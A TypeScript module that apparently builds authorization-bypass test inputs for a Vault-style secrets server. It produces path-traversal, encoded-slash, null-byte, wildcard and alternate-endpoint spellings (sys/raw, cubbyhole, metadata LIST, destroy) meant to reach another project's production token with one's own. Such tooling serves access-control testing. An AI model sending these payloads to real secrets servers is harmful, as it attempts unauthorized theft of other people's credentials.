/** Whose token it is, whose secret is wanted, and where a project's secret is below the mount. */
export interface Wanted {
  readonly own: string;
  readonly foreign: string;
  readonly path: (project: string) => string;
}

/** Ways to write the path of a foreign secret that a careless server might take for one's own, or for it. All begin with `/v1`. */
export function spellingsOf({ own, foreign, path }: Wanted): readonly string[] {
  const wanted = path(foreign);
  const data = `/v1/secret/data/${wanted}`;
  const segments = wanted.split("/");
  const all = [
    data,
    ...otherEndpoints(wanted),
    ...UP.map((up) => `/v1/secret/data/${path(own).replace("/production/TOKEN", "")}${up}${foreign}/production/TOKEN`),
    ...UP.map((up) => `/v1/secret/data/${path(own)}${up.repeat(3)}${foreign}/production/TOKEN`),
    ...segments.map((_, i) => `/v1/secret/data/${segments.slice(0, i).join("/")}//${segments.slice(i).join("/")}`),
    ...segments.map((_, i) => `/v1/secret/data/${[...segments.slice(0, i), ".", ...segments.slice(i)].join("/")}`),
    ...segments.map((_, i) => `/v1/secret/data/${[...segments.slice(0, i), "x", "..", ...segments.slice(i)].join("/")}`),
    ...Array.from(foreign, (char, i) => data.replace(foreign, `${foreign.slice(0, i)}${encoded(char)}${foreign.slice(i + 1)}`)),
    ...["%2F", "%2f", "%252f", "%5c", "\\"].map((slash) => `/v1/secret/data/${wanted.replaceAll("/", slash)}`),
    ...["/", "%00", "%0a", "%20", ";", ";x=1", "?", "?version=1", "?list=true", "#", "%23", ".json", "/.", "/./", "/%2e"].map(
      (end) => `${data}${end}`,
    ),
    ...[
      "+",
      "*",
      "%2a",
      foreign.toUpperCase(),
      `${foreign.slice(0, -1)}*`,
      `${foreign}%00`,
      `${own}%00/../${foreign}`,
      `%ef%bd%90roject`,
    ].map((name) => data.replace(foreign, name)),
    ...[
      "/v1//secret/data/",
      "/v1/./secret/data/",
      "/v1/sys/../secret/data/",
      "/v1/secret//data/",
      "/v1/secret/data//",
      "/v1/%73ecret/data/",
    ].map((begin) => `${begin}${wanted}`),
    ...[
      "/v1/SECRET/data/",
      "/v1/sys/raw/secret/data/",
      "/v1/cubbyhole/",
      "/v1/sys/wrapping/lookup/",
      "/v1/sys/internal/ui/mounts/secret/data/",
    ].map((begin) => `${begin}${wanted}`),
    `//v1/secret/data/${wanted}`,
    `/v1/secret/data/../data/${wanted}`,
    `/v1/secret/data/${path(own)}/../../../${foreign}/production/TOKEN`,
  ];
  return [...new Set(all)];
}

const UP = [
  "/../",
  "/%2e%2e/",
  "/..%2f",
  "%2f..%2f",
  "%2F%2E%2E%2F",
  "/.%2e/",
  "/%2e./",
  "/..;/",
  "/....//",
  "/%252e%252e/",
  "/..%5c",
  "/%c0%ae%c0%ae/",
  "/..%00/",
];

function otherEndpoints(wanted: string): readonly string[] {
  const folder = wanted.slice(0, wanted.lastIndexOf("/"));
  return [
    ...["metadata", "subkeys", "delete", "undelete", "destroy"].map((endpoint) => `/v1/secret/${endpoint}/${wanted}`),
    `LIST /v1/secret/metadata/${folder}`,
    `LIST /v1/secret/metadata/${folder.slice(0, folder.lastIndexOf("/"))}`,
    `/v1/secret/metadata/${folder}?list=true`,
    `/v1/secret/${wanted}`,
  ];
}

function encoded(char: string): string {
  return `%${char.charCodeAt(0).toString(16)}`;
}
